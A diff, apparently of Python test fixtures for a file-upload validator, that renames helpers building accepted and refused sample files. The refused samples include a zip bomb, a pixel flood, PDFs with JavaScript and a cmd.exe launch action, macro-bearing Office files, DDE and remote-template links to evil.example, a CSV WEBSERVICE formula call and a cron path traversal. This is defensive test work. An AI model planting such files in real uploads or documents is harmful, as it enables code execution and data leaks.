@@ -66,14 +66,14 @@ def photo() -> bytes:
     return image("JPEG", exif=exif, comment=b"Standort Werk")
 
 
-def moving(kind: str) -> bytes:
+def animated_image(kind: str) -> bytes:
     target = io.BytesIO()
     frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
     frames[0].save(target, kind, save_all=True, append_images=frames[1:])
     return target.getvalue()
 
 
-def flood(width: int, height: int) -> bytes:
+def pixel_bomb(width: int, height: int) -> bytes:
     """A PNG of a few kilobytes that says it has so many pixels."""
     head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
     row = bytes(1 + (width + 7) // 8)
@@ -87,7 +87,7 @@ def _chunk(name: bytes, content: bytes) -> bytes:
     return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
 
 
-def archive(parts: Mapping[str, bytes | str], *, comment: bytes = b"") -> bytes:
+def zip_archive(parts: Mapping[str, bytes | str], *, comment: bytes = b"") -> bytes:
     target = io.BytesIO()
     with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
         for name, part in parts.items():
@@ -96,17 +96,19 @@ def archive(parts: Mapping[str, bytes | str], *, comment: bytes = b"") -> bytes:
     return target.getvalue()
 
 
-def office(main: str = SPREADSHEET, more: Mapping[str, bytes | str] | None = None, types: str = "") -> bytes:
+def office_file(
+    main: str = SPREADSHEET, more: Mapping[str, bytes | str] | None = None, types: str = ""
+) -> bytes:
     """A file of Office with the parts that make it one."""
     head = f'<?xml version="1.0"?><Types><Override PartName="/a.xml" ContentType="{main}"/>{types}</Types>'
-    return archive({"[Content_Types].xml": head, "a.xml": "<a/>", **(more or {})})
+    return zip_archive({"[Content_Types].xml": head, "a.xml": "<a/>", **(more or {})})
 
 
 def _typed(part: str, content_type: str) -> str:
     return f'<Override PartName="/{part}" ContentType="{content_type}"/>'
 
 
-def relation(kind: str, target: str) -> str:
+def external_relation(kind: str, target: str) -> str:
     return (
         f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" '
         f'Target="{target}" TargetMode="External"/></Relationships>'
@@ -117,22 +119,22 @@ def open_document(
     media_type: str = ODS, body: str = "", more: Mapping[str, bytes | str] | None = None
 ) -> bytes:
     content = f"<office {XLINK}>{body}</office>"
-    return archive({"mimetype": media_type, "content.xml": content, **(more or {})})
+    return zip_archive({"mimetype": media_type, "content.xml": content, **(more or {})})
 
 
-def _script(made: pikepdf.Pdf) -> None:
+def _add_script(made: pikepdf.Pdf) -> None:
     made.Root.OpenAction = made.make_indirect(
         pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
     )
 
 
-def _launch(made: pikepdf.Pdf) -> None:
+def _add_launch_action(made: pikepdf.Pdf) -> None:
     action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
     note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
     made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])
 
 
-def _chained(made: pikepdf.Pdf) -> None:
+def _add_chained_script(made: pikepdf.Pdf) -> None:
     """A script at the end of a row of harmless actions, each within the one before."""
     action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
     for _step in range(12):
@@ -140,7 +142,7 @@ def _chained(made: pikepdf.Pdf) -> None:
     made.Root.OpenAction = action
 
 
-def _noted(made: pikepdf.Pdf) -> None:
+def _add_file_annotation(made: pikepdf.Pdf) -> None:
     """A program that hangs on a note of the page, and in no list of attachments."""
     stream = made.make_stream(b"MZ")
     spec = pikepdf.Dictionary(
@@ -154,46 +156,46 @@ def _noted(made: pikepdf.Pdf) -> None:
 
 def _nested(times: int) -> bytes:
     """A document in a document in a document."""
-    content = office(WORDS)
+    content = office_file(WORDS)
     for _time in range(times):
-        content = office(WORDS, {"word/embeddings/a.docx": content})
+        content = office_file(WORDS, {"word/embeddings/a.docx": content})
     return content
 
 
-def _attached(name: str) -> Callable[[pikepdf.Pdf], None]:
+def _attach(name: str) -> Callable[[pikepdf.Pdf], None]:
     def attach(made: pikepdf.Pdf) -> None:
         made.attachments[name] = b"content"
 
     return attach
 
 
-def locked() -> bytes:
+def encrypted_pdf() -> bytes:
     return pdf(encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
 
 
-def readable_but_locked() -> bytes:
+def owner_locked_pdf() -> bytes:
     return pdf(encryption=pikepdf.Encryption(user="", owner="geheim"))
 
 
-def honest() -> dict[str, bytes]:
+def accepted_files() -> dict[str, bytes]:
     """One file of each kind, by name, and kinds that look strange and are none the less honest."""
     return {
         "Rechnung.pdf": pdf(),
-        "ZUGFeRD.pdf": pdf(change=_attached("factur-x.xml")),
-        "Bescheid.pdf": readable_but_locked(),
+        "ZUGFeRD.pdf": pdf(change=_attach("factur-x.xml")),
+        "Bescheid.pdf": owner_locked_pdf(),
         "Scan.png": image(),
         "Foto.jpg": photo(),
         "Foto.JPEG": photo(),
         "Bild.webp": image("WEBP"),
-        "Zähler.xlsx": office(),
-        "Vermerk.docx": office(
-            WORDS, {"word/_rels/document.xml.rels": relation("hyperlink", "https://a.example")}
+        "Zähler.xlsx": office_file(),
+        "Vermerk.docx": office_file(
+            WORDS, {"word/_rels/document.xml.rels": external_relation("hyperlink", "https://a.example")}
         ),
-        "Schulung.pptx": office(SLIDES),
+        "Schulung.pptx": office_file(SLIDES),
         "Liste.ods": open_document(),
         "Brief.odt": open_document(ODT, '<text:a xmlns:text="t" xlink:href="https://a.example"/>'),
-        "Diagramm.docx": office(
-            WORDS, {"word/embeddings/Sheet1.xlsx": office(), "word/document.xml": "<a/>"}
+        "Diagramm.docx": office_file(
+            WORDS, {"word/embeddings/Sheet1.xlsx": office_file(), "word/document.xml": "<a/>"}
         ),
         "Zeichen.csv": b"Konto|Text;Saldo\n-5;=B2+B3\n+49 521 1234;Achtung!\n@home | Tor!;1\n",
         "Lohn.csv": "Name;Stunden\r\nMüller;-3,5\r\n".encode("cp1252"),
@@ -202,11 +204,11 @@ def honest() -> dict[str, bytes]:
     }
 
 
-def hostile() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
+def refused_files() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
     """Files that must never be taken: what is done, the name, the content, and what people are told."""
-    docm = office(MACROS, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()"})
-    bomb = archive({"[Content_Types].xml": "<Types/>", "xl/sheet1.xml": b"\0" * 60_000_000})
-    many = archive({f"p{number}.xml": "<a/>" for number in range(2_001)})
+    docm = office_file(MACROS, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()"})
+    bomb = zip_archive({"[Content_Types].xml": "<Types/>", "xl/sheet1.xml": b"\0" * 60_000_000})
+    many = zip_archive({f"p{number}.xml": "<a/>" for number in range(2_001)})
     entities = '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
     return {
         "svg": ("logo.svg", SVG, FileRejectionReason.KIND),
@@ -232,80 +234,94 @@ def hostile() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
         "nul in csv": ("daten.csv", b"a;b\0;c", FileRejectionReason.NO_TEXT),
         "bytes in csv": ("daten.csv", bytes(range(128, 256)), FileRejectionReason.NO_TEXT),
         "docm as docx": ("brief.docx", docm, FileRejectionReason.MACROS),
-        "hidden macros": ("liste.xlsx", office(more={"xl/VBAPROJECT.bin": b"x"}), FileRejectionReason.MACROS),
-        "declared macros": (
-            "brief.docx",
-            office(WORDS, types='<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
+        "hidden macros": (
+            "liste.xlsx",
+            office_file(more={"xl/VBAPROJECT.bin": b"x"}),
             FileRejectionReason.MACROS,
         ),
-        "docx as xlsx": ("liste.xlsx", office(WORDS), FileRejectionReason.OTHER_CONTENT),
-        "zip as docx": ("brief.docx", archive({"a.txt": "a"}), FileRejectionReason.BROKEN),
+        "declared macros": (
+            "brief.docx",
+            office_file(WORDS, types='<Default ContentType="application/vnd.ms-office.vbaProject"/>'),
+            FileRejectionReason.MACROS,
+        ),
+        "docx as xlsx": ("liste.xlsx", office_file(WORDS), FileRejectionReason.OTHER_CONTENT),
+        "zip as docx": ("brief.docx", zip_archive({"a.txt": "a"}), FileRejectionReason.BROKEN),
         "remote template": (
             "brief.docx",
-            office(
+            office_file(
                 WORDS,
-                {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t")},
+                {
+                    "word/_rels/settings.xml.rels": external_relation(
+                        "attachedTemplate", "https://evil.example/t"
+                    )
+                },
             ),
             FileRejectionReason.LINKED,
         ),
         "remote picture": (
             "brief.docx",
-            office(WORDS, {"word/_rels/document.xml.rels": relation("image", "file://server/a.png")}),
+            office_file(
+                WORDS, {"word/_rels/document.xml.rels": external_relation("image", "file://server/a.png")}
+            ),
             FileRejectionReason.LINKED,
         ),
         "command in a workbook": (
             "liste.xlsx",
-            office(more={"xl/externalLinks/externalLink1.xml": '<a><ddeLink ddeService="cmd"/></a>'}),
+            office_file(more={"xl/externalLinks/externalLink1.xml": '<a><ddeLink ddeService="cmd"/></a>'}),
             FileRejectionReason.LINKED,
         ),
         "program in a document": (
             "a.docx",
-            office(WORDS, {"word/embeddings/oleObject1.bin": b"x"}),
+            office_file(WORDS, {"word/embeddings/oleObject1.bin": b"x"}),
             FileRejectionReason.SCRIPTS,
         ),
         "zip bomb": ("liste.xlsx", bomb, FileRejectionReason.UNPACKED),
         "too many parts": ("liste.xlsx", many, FileRejectionReason.UNPACKED),
         "macros in a file within": (
             "brief.docx",
-            office(WORDS, {"word/embeddings/Sheet1.xlsx": office(more={"xl/vbaProject.bin": b"x"})}),
+            office_file(
+                WORDS, {"word/embeddings/Sheet1.xlsx": office_file(more={"xl/vbaProject.bin": b"x"})}
+            ),
             FileRejectionReason.MACROS,
         ),
         "program that calls itself a table": (
             "brief.docx",
-            office(WORDS, {"word/embeddings/Sheet1.xlsx": b"MZ\x90\0"}),
+            office_file(WORDS, {"word/embeddings/Sheet1.xlsx": b"MZ\x90\0"}),
             FileRejectionReason.OTHER_CONTENT,
         ),
         "files within files": ("brief.docx", _nested(4), FileRejectionReason.UNPACKED),
         "data from elsewhere": (
             "liste.xlsx",
-            office(more={"xl/connections.xml": '<connections><dbPr connection="Provider=x"/></connections>'}),
+            office_file(
+                more={"xl/connections.xml": '<connections><dbPr connection="Provider=x"/></connections>'}
+            ),
             FileRejectionReason.LINKED,
         ),
         "split command in a field": (
             "brief.docx",
-            office(WORDS, {"word/document.xml": FIELD}),
+            office_file(WORDS, {"word/document.xml": FIELD}),
             FileRejectionReason.SCRIPTS,
         ),
         "command in a workbook, somewhere else": (
             "liste.xlsx",
-            office(
+            office_file(
                 more={"b.xml": '<a><ddeLink ddeService="cmd"/></a>'}, types=_typed("b.xml", EXTERNAL_LINK)
             ),
             FileRejectionReason.LINKED,
         ),
         "split command in a field, somewhere else": (
             "brief.docx",
-            office(WORDS, {"b/text.xml": FIELD}),
+            office_file(WORDS, {"b/text.xml": FIELD}),
             FileRejectionReason.SCRIPTS,
         ),
         "split command in a field under another ending": (
             "brief.docx",
-            office(WORDS, {"b/text.png": FIELD}, types=_typed("b/text.png", WORDS)),
+            office_file(WORDS, {"b/text.png": FIELD}, types=_typed("b/text.png", WORDS)),
             FileRejectionReason.SCRIPTS,
         ),
         "program in a document, somewhere else": (
             "a.docx",
-            office(WORDS, {"media/a.bin": b"x"}, types=_typed("media/a.bin", OLE_OBJECT)),
+            office_file(WORDS, {"media/a.bin": b"x"}, types=_typed("media/a.bin", OLE_OBJECT)),
             FileRejectionReason.SCRIPTS,
         ),
         "command in a cell of csv": (
@@ -318,10 +334,14 @@ def hostile() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
             b'Name,Wert\n"A","=1+WEBSERVICE(""https://evil.example/"")"\n',
             FileRejectionReason.SCRIPTS,
         ),
-        "entities": ("liste.xlsx", archive({"[Content_Types].xml": entities}), FileRejectionReason.BROKEN),
+        "entities": (
+            "liste.xlsx",
+            zip_archive({"[Content_Types].xml": entities}),
+            FileRejectionReason.BROKEN,
+        ),
         "path in a part": (
             "liste.xlsx",
-            office(more={"../../etc/cron.d/x": "x"}),
+            office_file(more={"../../etc/cron.d/x": "x"}),
             FileRejectionReason.BROKEN,
         ),
         "password of office": (
@@ -352,26 +372,38 @@ def hostile() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
         "odt as ods": ("liste.ods", open_document(ODT), FileRejectionReason.OTHER_CONTENT),
         "pdf with a beginning": ("rechnung.pdf", b"GIF89a;" + pdf(), FileRejectionReason.OTHER_CONTENT),
         "pdf with a page behind": ("rechnung.pdf", pdf() + HTML, FileRejectionReason.OTHER_CONTENT),
-        "pdf and zip": ("rechnung.pdf", pdf() + archive({"a.exe": "MZ"}), FileRejectionReason.OTHER_CONTENT),
-        "zip in a comment of a pdf": (
+        "pdf and zip": (
             "rechnung.pdf",
-            pdf() + archive({"a": "a"}, comment=b"\n%%EOF\n"),
+            pdf() + zip_archive({"a.exe": "MZ"}),
             FileRejectionReason.OTHER_CONTENT,
         ),
-        "zip with a beginning": ("liste.xlsx", b"GIF89a" + office(), FileRejectionReason.OTHER_CONTENT),
-        "zip with an end": ("liste.xlsx", office() + HTML, FileRejectionReason.OTHER_CONTENT),
-        "locked pdf": ("rechnung.pdf", locked(), FileRejectionReason.ENCRYPTED),
+        "zip in a comment of a pdf": (
+            "rechnung.pdf",
+            pdf() + zip_archive({"a": "a"}, comment=b"\n%%EOF\n"),
+            FileRejectionReason.OTHER_CONTENT,
+        ),
+        "zip with a beginning": ("liste.xlsx", b"GIF89a" + office_file(), FileRejectionReason.OTHER_CONTENT),
+        "zip with an end": ("liste.xlsx", office_file() + HTML, FileRejectionReason.OTHER_CONTENT),
+        "locked pdf": ("rechnung.pdf", encrypted_pdf(), FileRejectionReason.ENCRYPTED),
         "broken pdf": ("rechnung.pdf", b"%PDF-1.7\nnothing\n%%EOF\n", FileRejectionReason.BROKEN),
         "half a pdf": ("rechnung.pdf", pdf()[:200], FileRejectionReason.BROKEN),
-        "script in a pdf": ("rechnung.pdf", pdf(change=_script), FileRejectionReason.SCRIPTS),
-        "program started by a pdf": ("rechnung.pdf", pdf(change=_launch), FileRejectionReason.SCRIPTS),
-        "program in a pdf": ("rechnung.pdf", pdf(change=_attached("a.exe")), FileRejectionReason.SCRIPTS),
-        "script behind many others": ("rechnung.pdf", pdf(change=_chained), FileRejectionReason.SCRIPTS),
-        "program on a note": ("rechnung.pdf", pdf(change=_noted), FileRejectionReason.SCRIPTS),
-        "pixel flood": ("scan.png", flood(20_000, 20_000), FileRejectionReason.PIXELS),
-        "more pixels than 40 million": ("scan.png", flood(8_000, 5_001), FileRejectionReason.PIXELS),
+        "script in a pdf": ("rechnung.pdf", pdf(change=_add_script), FileRejectionReason.SCRIPTS),
+        "program started by a pdf": (
+            "rechnung.pdf",
+            pdf(change=_add_launch_action),
+            FileRejectionReason.SCRIPTS,
+        ),
+        "program in a pdf": ("rechnung.pdf", pdf(change=_attach("a.exe")), FileRejectionReason.SCRIPTS),
+        "script behind many others": (
+            "rechnung.pdf",
+            pdf(change=_add_chained_script),
+            FileRejectionReason.SCRIPTS,
+        ),
+        "program on a note": ("rechnung.pdf", pdf(change=_add_file_annotation), FileRejectionReason.SCRIPTS),
+        "pixel flood": ("scan.png", pixel_bomb(20_000, 20_000), FileRejectionReason.PIXELS),
+        "more pixels than 40 million": ("scan.png", pixel_bomb(8_000, 5_001), FileRejectionReason.PIXELS),
         "half a picture": ("scan.png", image(size=(300, 300))[:90], FileRejectionReason.BROKEN),
-        "moving picture": ("bild.webp", moving("WEBP"), FileRejectionReason.MOVING),
-        "moving png": ("bild.png", moving("PNG"), FileRejectionReason.MOVING),
+        "moving picture": ("bild.webp", animated_image("WEBP"), FileRejectionReason.MOVING),
+        "moving png": ("bild.png", animated_image("PNG"), FileRejectionReason.MOVING),
         "gif as png": ("bild.png", image("GIF"), FileRejectionReason.OTHER_CONTENT),
     }
